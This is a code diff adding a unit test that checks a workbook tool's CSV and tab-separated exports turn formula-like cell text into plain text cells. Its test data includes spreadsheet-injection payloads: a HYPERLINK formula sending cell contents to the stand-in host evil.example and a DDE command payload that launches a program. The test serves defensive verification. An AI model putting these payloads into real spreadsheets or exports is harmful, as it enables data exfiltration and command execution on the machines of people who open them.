@@ -280,3 +280,42 @@ TEST(PrintedSheet, PathsAndJobsTheToolMustNotTake) {
     EXPECT_EQ(QFileInfo(job).size(), static_cast<qint64>(sheet.size())) << "the job is intact";
     EXPECT_FALSE(QFile::exists(pdf) || QFileInfo("/dev/null").isFile()) << "no PDF, and the device still a device";
 }
+
+// Cells are data: read back by Python's csv module, as a spreadsheet reads
+// them, a formula-like text stands after an apostrophe and a number as it is,
+// in the CSV file and in the copied (tab-separated) table alike.
+TEST(CopiedTable, FormulaLikeTextsBecomeTextCells) {
+    const std::pair<std::string, std::string> cells[] = {
+        {"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"10\")", "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"10\")"},
+        {"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
+        {"@SUM(A1)", "'@SUM(A1)"},
+        {"-1+1", "'-1+1"},
+        {"\t=1", "'\t=1"},
+        {"\r=1", "'\r=1"},
+        {"-0.5", "-0.5"},
+        {"-2", "-2"},
+        {"1e5", "1e5"},
+        {"+1.5E-3", "+1.5E-3"},
+        {"齿数", "齿数"},
+    };
+    lc::Workbook wb;
+    lc::Sheet& a2 = wb.sheet(lc::SheetId::A2);
+    for (std::size_t i = 0; i < std::size(cells); ++i) a2.setText("Text" + std::to_string(i + 1), cells[i].first);
+    QTemporaryDir dir;
+    for (const auto& [separator, bytes] : {std::pair{",", lc::commaSeparated(wb, lc::SheetId::A2)},
+                                           std::pair{"\t", lc::tabSeparated(wb, lc::SheetId::A2)}}) {
+        QFile f(dir.filePath("t"));
+        ASSERT_TRUE(f.open(QIODevice::WriteOnly) && f.write(bytes.data(), static_cast<qint64>(bytes.size())) > 0);
+        f.close();
+        const ToolRun py = run("python3", {"-c", "import csv, json, sys; print(json.dumps(list(csv.reader(open(sys.argv[1], "
+                                                 "newline='', encoding='utf-8-sig'), delimiter=sys.argv[2]))))",
+                                           f.fileName(), separator});
+        ASSERT_EQ(py.status, 0) << py.err;
+        const Json rows = Json::parse(py.out);
+        for (std::size_t i = 0; i < std::size(cells); ++i) {
+            const auto row = std::find_if(rows.begin(), rows.end(), [&](const Json& r) { return r[0] == std::to_string(i + 1); });
+            ASSERT_NE(row, rows.end()) << i;
+            EXPECT_EQ((*row)[3], cells[i].second) << separator << " " << cells[i].first;
+        }
+    }
+}
